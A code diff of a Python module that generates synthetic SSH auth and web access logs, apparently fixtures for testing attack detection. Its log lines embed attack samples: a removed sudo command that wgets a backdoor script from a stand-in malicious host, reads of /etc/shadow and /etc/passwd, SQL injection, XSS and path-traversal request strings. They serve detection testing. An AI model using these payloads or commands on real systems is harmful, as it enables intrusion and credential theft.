@@ -1,83 +1,54 @@
-"""Two small scenarios: a password attack that succeeds, and a probed web server."""
+"""Two small scenarios made from parameters; what the tests expect of them follows from these numbers."""
 
+SPRAYER, SPRAYED, SPRAY_GAP = "198.51.100.71", 24, 7
+PATIENT, PATIENT_TRIES, PATIENT_GAP = "198.51.100.140", 6, 400
+NIGHT_LOGIN = "198.51.100.9"
+REFUSED, REFUSALS = "203.0.113.40", 12
+SCANNER, ATTACKER = "203.0.113.90", "203.0.113.91"
+VISITS = 20
 
-def _syslog(time, service, message):
-    return f"Mar 11 {time} webserver {service}: {message}"
 
+def _clock(hour, second):
+    return f"{hour + second // 3600:02d}:{second // 60 % 60:02d}:{second % 60:02d}"
 
-def auth_scenario():
-    """52 lines: 34 guesses from one address within 63 s, then a login and root commands."""
-    ip = "103.21.55.10"
-    cron = lambda t, pid, what, user: _syslog(
-        t, f"CRON[{pid}]", f"pam_unix(cron:session): session {what} for user {user}"
-    )
-    opened = lambda t, user: _syslog(
-        t, "sshd[23488]", f"pam_unix(sshd:session): session opened for user {user}"
-    )
-    lines = [cron("02:10:01", 12345, "opened", "root"), cron("02:10:01", 12345, "closed", "root")]
-    lines.append(_syslog("02:14:22", "sshd[23456]", f"Invalid user test from {ip} port 44832"))
-    lines.append(_syslog("02:14:23", "sshd[23456]", f"Failed password for invalid user test from {ip} port 44832 ssh2"))
-    second = 25
-    for user, times in (("admin", 21), ("root", 10)):
-        for _ in range(times):
-            clock = f"02:{14 + second // 60}:{second % 60:02d}"
-            lines.append(_syslog(clock, "sshd[23460]", f"Failed password for {user} from {ip} port 44840 ssh2"))
-            second += 2
-    lines.append(_syslog("02:15:27", "sshd[23488]", f"Accepted password for admin from {ip} port 44864 ssh2"))
-    lines.append(opened("02:15:27", "admin"))
-    for clock, command in (
-        ("02:15:30", "/bin/bash"),
-        ("02:15:35", "/usr/bin/cat /etc/shadow"),
-        ("02:15:40", "/usr/bin/wget http://malware.evil.com/backdoor.sh"),
-    ):
-        lines.append(_syslog(clock, "sudo", f"admin : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND={command}"))
-    for second in (0, 2, 4):
-        lines.append(_syslog(f"02:16:0{second}", "sshd[2]", "Failed password for deploy from 198.51.100.5 port 55001 ssh2"))
-    for clock, user, source in (("02:18:00", "root", "10.0.1.50"), ("03:45:00", "admin", "192.168.1.100")):
-        lines.append(_syslog(clock, "sshd[3]", f"Accepted password for {user} from {source} port 22000 ssh2"))
-        lines.append(opened(clock, user))
-    lines += [cron("08:00:01", 24000, "opened", "www-data"), cron("08:00:01", 24000, "closed", "www-data")]
-    lines.append(_syslog("09:15:00", "sshd[4]", "Accepted publickey for deploy from 10.0.1.100 port 40000 ssh2"))
-    lines.append(opened("09:15:00", "deploy"))
-    lines.append(_syslog("12:30:00", "sshd[5]", "Connection closed by authenticating user backup 203.0.113.50 port 60000"))
-    return "\n".join(lines)
 
+def auth_scenario(breached=True):
+    """36 lines: one password tried on many names, a patient guesser who gets in, a login at night.
 
-def access_scenario():
-    """36 lines: ten refused logins, a scanner, and requests holding attacks."""
-    rows = []
+    The sprayer gets in with the last line, which ``breached=False`` leaves out.
+    """
+    log = []
+
+    def add(clock, service, message):
+        log.append(f"Feb  9 {clock} gate7 {service}: {message}")
 
-    def add(ip, user, clock, request, status, size, agent="Mozilla/5.0"):
-        rows.append(f'{ip} - {user} [11/Mar/2026:{clock} +0000] "{request} HTTP/1.1" {status} {size} "-" "{agent}"')
+    for i in range(SPRAYED):
+        add(_clock(13, 300 + i * SPRAY_GAP), "sshd[410]", f"Failed password for invalid user svc{i:02d} from {SPRAYER} port {51000 + i} ssh2")
+    for i in range(PATIENT_TRIES):
+        add(_clock(14, i * PATIENT_GAP), "sshd[502]", f"Failed password for mara from {PATIENT} port 40100 ssh2")
+    add("14:50:00", "sshd[502]", f"Accepted password for mara from {PATIENT} port 40100 ssh2")
+    add("14:50:00", "sshd[502]", "pam_unix(sshd:session): session opened for user mara")
+    add("14:51:00", "sudo", "mara : TTY=pts/3 ; PWD=/srv ; USER=root ; COMMAND=/usr/bin/less /etc/passwd")
+    add("23:30:05", "sshd[611]", f"Accepted publickey for root from {NIGHT_LOGIN} port 40200 ssh2")
+    add("23:31:00", "sshd[611]", "pam_unix(sshd:session): session closed for user root")
+    if breached:
+        add("13:09:00", "sshd[410]", f"Accepted password for svc03 from {SPRAYER} port 52000 ssh2")
+    return "\n".join(log)
 
-    guesser = "103.21.55.10"
-    add(guesser, "-", "02:14:00", "GET /login", 200, 1234)
-    for second in range(1, 11):
-        add(guesser, "admin", f"02:14:{second:02d}", "POST /login", 401, 89)
-    add(guesser, "admin", "02:14:30", "POST /login", 200, 1456)
-    for clock, path, size in (
-        ("02:14:35", "/admin/dashboard", 5678), ("02:14:40", "/admin/users", 12345),
-        ("02:14:45", "/admin/users/export?format=csv", 524288), ("02:15:00", "/api/database/dump", 10485760),
-    ):
-        add(guesser, "admin", clock, f"GET {path}", 200, size)
-    probes = [
-        ("/index.html", 200, 2048), ("/.env", 404, 162), ("/.git/config", 404, 162), ("/wp-admin/", 404, 162),
-        ("/phpmyadmin/", 404, 162), ("/admin", 403, 162), ("/xmlrpc.php", 404, 162),
-        ("/backup.sql", 404, 162), ("/robots.txt", 200, 58),
-    ]
-    for second, (path, status, size) in enumerate(probes):
-        add("45.33.12.5", "-", f"03:00:{second:02d}", f"GET {path}", status, size, "Nikto/2.1.6")
-    attacks = [
-        ("/api/users?id=1' OR 1=1--", 400, 200), ("/api/users?id=1 UNION SELECT * FROM users--", 400, 200),
-        ("/search?q=<script>alert('XSS')</script>", 200, 3000),
-        ("/page?file=../../../etc/passwd", 403, 162), ("/page?file=....//....//etc/shadow", 403, 162),
-    ]
-    for second, (path, status, size) in enumerate(attacks):
-        add("192.168.1.50", "-", f"04:00:{second:02d}", f"GET {path}", status, size, "sqlmap/1.7")
-    add("10.0.1.100", "deploy", "09:00:00", "GET /api/health", 200, 15, "curl/7.81.0")
-    add("10.0.1.100", "deploy", "09:00:01", "POST /api/deploy", 200, 1024, "curl/7.81.0")
-    add("10.0.1.100", "deploy", "09:01:00", "GET /api/health", 200, 15, "curl/7.81.0")
-    add("172.16.0.5", "user1", "10:00:00", "GET /dashboard", 200, 4096)
-    add("172.16.0.5", "user1", "10:05:00", "GET /reports", 200, 8192)
-    add("172.16.0.5", "user1", "10:10:00", "POST /reports/generate", 200, 2048)
-    return "\n".join(rows)
+
+def access_scenario():
+    """38 lines: visits to a shop, refused sign-ins, a scanner, and requests holding attacks."""
+    log = []
+
+    def add(ip, clock, request, status, user="-"):
+        log.append(f'{ip} - {user} [09/Feb/2026:{clock} +0000] "{request} HTTP/1.1" {status} {100 + len(log)} "-" "shop/2"')
+
+    for i in range(REFUSALS):
+        add(REFUSED, _clock(11, i * 4), "POST /session", 401, "kim")
+    for i, path in enumerate(["/.env", "/wp-login.php", "/.env"]):
+        add(SCANNER, _clock(12, i), f"GET {path}", 404)
+    for i, path in enumerate(["/find?q=<script>1</script>", "/dl?name=/etc/passwd", "/dl?name=/etc/passwd"]):
+        add(ATTACKER, _clock(12, 60 + i), f"GET {path}", 200)
+    for i in range(VISITS):
+        add(f"192.0.2.{i % 5 + 1}", _clock(15, i * 90), f"GET /catalog/{i}", 200)
+    return "\n".join(log)
